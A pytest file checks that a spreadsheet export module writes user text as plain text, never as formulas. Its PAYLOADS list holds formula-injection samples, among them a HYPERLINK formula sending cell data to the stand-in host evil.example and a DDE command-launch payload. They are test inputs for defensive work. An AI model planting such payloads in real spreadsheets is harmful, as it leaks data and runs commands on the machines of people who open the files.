"""Safe cells: user text never becomes a formula, whatever it starts with (SPEC §7)."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook

from exchange.cells import safe_cell, safe_row
from exchange.exports import plan_workbook_response, workbook_response
from processes.models import CoreProcess
from tests import factories
from tests.plans.excel import open_workbook, response_bytes

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "#N/A",
    "#DIV/0!",
]


def _roundtrip(values: list) -> list:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Test")
    sheet.append([safe_cell(sheet, value) for value in values])
    sheet.append(safe_row(sheet, values))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return [list(row) for row in open_workbook(buffer.getvalue())["Test"].iter_rows()]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_is_stored_as_text(payload):
    for cell in _roundtrip([payload])[0:2]:
        assert cell[0].data_type == "s"
        assert cell[0].value == payload


@pytest.mark.parametrize("payload", ["=1+1", "+1", "-1", "@A1"])
def test_formula_like_text_keeps_its_quote_prefix_when_edited(payload):
    safe, plain = _roundtrip([payload])
    assert safe[0].quotePrefix is True
    assert plain[0].quotePrefix is True


def test_control_characters_are_removed():
    safe, plain = _roundtrip(["be\x00gin\x07 en\x1b einde\x0b", "regel\nnieuwe regel\ttab"])
    assert safe[0].value == plain[0].value == "begin en einde"
    # Newline and tab are ordinary text.
    assert safe[1].value == plain[1].value == "regel\nnieuwe regel\ttab"


def test_ordinary_values_keep_their_type():
    safe, plain = _roundtrip(["tekst", 3, 2.5, None])
    assert [cell.value for cell in plain] == ["tekst", 3, 2.5]
    assert [cell.data_type for cell in plain] == ["s", "n", "n"]
    assert [cell.value for cell in safe[:3]] == ["tekst", 3, 2.5]
    assert safe[1].quotePrefix is False


def test_overlong_text_is_cut_to_what_a_cell_holds():
    safe, plain = _roundtrip(["x" * 40_000])
    assert len(safe[0].value) == len(plain[0].value) == 32_767


def test_workbook_response_writes_payloads_as_text():
    response = workbook_response([("Blad", ["=kop"], [["=1+1", "@x", 5]])], "test.xlsx")
    sheet = open_workbook(response_bytes(response))["Blad"]
    assert [(c.value, c.data_type) for c in sheet[1]][0] == ("=kop", "s")
    assert [(c.value, c.data_type) for c in sheet[2]] == [("=1+1", "s"), ("@x", "s"), (5, "n")]


def test_export_of_a_plan_writes_every_payload_as_text(plan, entity):
    for number, payload in enumerate(PAYLOADS):
        factories.CoreProcessFactory(
            plan=plan,
            entity=entity,
            code=f"X{number}",
            title=payload,
            description=payload + "\x01",
            motivation=payload,
        )
    CoreProcess.objects.filter(code="X0").update(code="=X0")
    sheet = open_workbook(response_bytes(plan_workbook_response(plan)))["Kernprocessen"]
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(PAYLOADS)
    for row, payload in zip(rows, PAYLOADS, strict=True):
        for cell in (row[3], row[4], row[8]):  # title, description, motivation
            assert (cell.value, cell.data_type) == (payload, "s")
    assert (rows[0][2].value, rows[0][2].data_type) == ("=X0", "s")
